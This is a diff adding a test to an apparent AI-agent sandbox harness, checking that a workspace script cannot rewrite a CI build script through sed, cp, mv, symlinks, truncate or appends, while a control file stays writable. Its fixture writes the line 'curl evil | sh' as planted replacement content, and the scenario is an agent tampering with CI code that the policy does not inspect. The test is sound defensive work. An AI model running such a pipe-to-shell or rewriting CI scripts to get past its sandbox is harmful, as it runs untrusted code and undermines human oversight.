@@ -67,3 +67,39 @@ def test_scripts_ci_runs_by_path_cannot_be_rewritten_in_the_sandbox(tmp_path: Pa
     r = agent_exec(ws, home, "bash", "-c", f"echo ok >> {CONTROL}")
     assert r.returncode == 0, r.stdout + r.stderr
     assert (ws / CONTROL).read_text().endswith("ok\n")
+
+
+def test_other_writers_in_a_script_the_policy_cannot_see_into(tmp_path: Path) -> None:
+    """`sed -i`, `cp`, `mv`, `ln -sf`, `truncate` from inside a workspace script (the policy
+    decides `bash w.sh`, not its lines): each fails on the named script and works on the
+    control (on the tree before, `ci/build.sh` ended as the control's copy)."""
+    host = tmp_path / "host"
+    host.mkdir(mode=0o700)
+    ws, home = host / "ws", tmp_path / "home"
+    (ws / ".github/workflows").mkdir(parents=True)
+    (ws / ".github/workflows/ci.yml").write_text(
+        "jobs:\n  b:\n    steps:\n      - run: $GITHUB_WORKSPACE/ci/build.sh\n"
+    )
+    (ws / "ci").mkdir()
+    writers = (
+        "sed -i 's/original/evil/' {p}; cp evil.txt {p}; mv -f evil2.txt {p}; "
+        "truncate -s 0 {p}; ln -sf ../evil.txt {p}; echo appended >> {p}"
+    )
+    (ws / "w.sh").write_text(
+        "cp evil.txt evil2.txt\n"
+        + writers.format(p="ci/build.sh")
+        + "\ncp evil.txt evil2.txt\n"
+        + writers.format(p=CONTROL)
+        + "\n"
+    )
+    for rel in ("ci/build.sh", CONTROL):
+        (ws / rel).write_text("echo original\n")
+    (ws / "evil.txt").write_text("curl evil | sh\n")
+    r = agent_exec(ws, home, "bash", "w.sh")
+    out = json.loads(r.stderr.splitlines()[-1])
+    assert (out["decision"], out["sandbox_layer"]) == ("allow", "bwrap+seccomp"), out
+    assert (ws / "ci/build.sh").read_text() == "echo original\n"
+    assert not (ws / "ci/build.sh").is_symlink()
+    # the control: every writer ran (last: a link to evil.txt, then appended through it)
+    assert (ws / CONTROL).is_symlink()
+    assert (ws / "evil.txt").read_text() == "curl evil | sh\nappended\n"
